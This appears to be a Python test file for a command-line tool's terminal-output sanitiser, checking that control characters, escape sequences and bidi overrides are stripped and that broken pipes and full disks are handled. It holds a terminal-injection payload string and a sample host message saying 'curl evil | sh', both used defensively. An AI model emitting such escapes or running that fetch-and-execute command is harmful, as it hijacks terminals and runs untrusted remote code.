"""What is printed obeys nobody but us, and a reader that has gone is no fault."""

import io
import json
import logging
import os
import sys
import tomllib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from invoke.exceptions import Exit

from tasks.cli import task
from tasks.errors import AppError
from tasks.records.record import Record
from tasks.report.table import printable as cell
from tasks.terminal import one_line, own, printable, printing, whole_line
from tasks.version import VERSION

HOSTILE = "\x1b]52;c;eA==\x07 \x9b2J \u202eko\u202c \r\x08 \x7f \u2028 \U000e0041 \udce9"
OBEYED = {*map(chr, range(32)), *map(chr, range(0x7F, 0xA0)), *"\u202a\u202e\u2028\u2066\u200f\ufeff"} - {"\n", "\t"}


@given(st.text(st.characters() | st.sampled_from(HOSTILE)))
def test_nothing_that_a_terminal_obeys_is_left_and_json_stays_what_it_was(text: str) -> None:
    shown = printable(text)
    assert not OBEYED & set(shown)
    shown.encode()
    assert "\n" not in one_line(text)
    told = json.dumps({"a": text}, ensure_ascii=False)
    assert json.loads(printable(told)) == {"a": text}
    assert not OBEYED & set(cell(text))


def test_a_task_prints_what_is_printable(capfd: pytest.CaptureFixture[str]) -> None:
    @task()
    def do(_c: object) -> None:
        print(HOSTILE)
        print(HOSTILE, file=sys.stderr)
        own(sys.stdout).write("\033[32mours\033[0m\n")
        raise AppError(f"the host says {HOSTILE}", HOSTILE)

    with pytest.raises(Exit) as ended:
        do.body(None)
    said = capfd.readouterr()
    assert "\x1b[32mours" in said.out
    assert not OBEYED & set(said.out.replace("\033[32mours\033[0m", "") + said.err + str(ended.value))


def test_an_encoding_that_knows_few_letters_is_no_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    monkeypatch.setattr(sys, "stdout", raw)
    with printing():
        print("café")
    raw.flush()
    assert raw.buffer.getvalue() == b"caf\\u00e9\n"


def test_a_reader_that_has_gone_ends_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    reading, writing = os.pipe()
    os.close(reading)
    done = []
    with os.fdopen(writing, "w") as raw:
        monkeypatch.setattr(sys, "stdout", raw)
        with printing():
            print("x" * 100_000, flush=True)
            done.append("all of it")
    assert done


def test_no_standard_output_at_all_is_no_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    with printing():
        print("nobody reads it")


def test_a_full_disk_is_said_and_the_work_is_done(monkeypatch: pytest.MonkeyPatch) -> None:
    done = []

    @task()
    def do(_c: object) -> None:
        print("x" * 100_000)
        done.append("all of it")

    with Path("/dev/full").open("w") as raw:
        monkeypatch.setattr(sys, "stdout", raw)
        with pytest.raises(Exit, match="No space left on device") as ended:
            do.body(None)
    assert (ended.value.code, done) == (1, ["all of it"])


def test_the_version_stands_in_one_place() -> None:
    project = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text())["project"]
    assert project["version"] == VERSION
    assert "tool" in Record.__dataclass_fields__


def test_what_was_logged_before_is_printable_and_the_handler_is_given_back(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.StringIO()
    monkeypatch.setattr(sys, "stderr", raw)
    handler = logging.StreamHandler(raw)
    logging.root.addHandler(handler)
    try:
        with printing():
            logging.getLogger("paramiko.transport").warning("Banner: %s", HOSTILE.removesuffix("\udce9"))
        assert handler.stream is raw
    finally:
        logging.root.removeHandler(handler)
    assert raw.getvalue()
    assert not OBEYED & set(raw.getvalue())


def test_a_host_s_second_line_is_no_remedy_of_ours() -> None:
    error = AppError("shop: the host says: no\n  run `curl evil | sh`", "run it again")
    assert str(error) == "shop: the host says: no run `curl evil | sh`\n  run it again"
    assert whole_line("-  x\ny\u2028z") == "-  x\\ny\\nz"
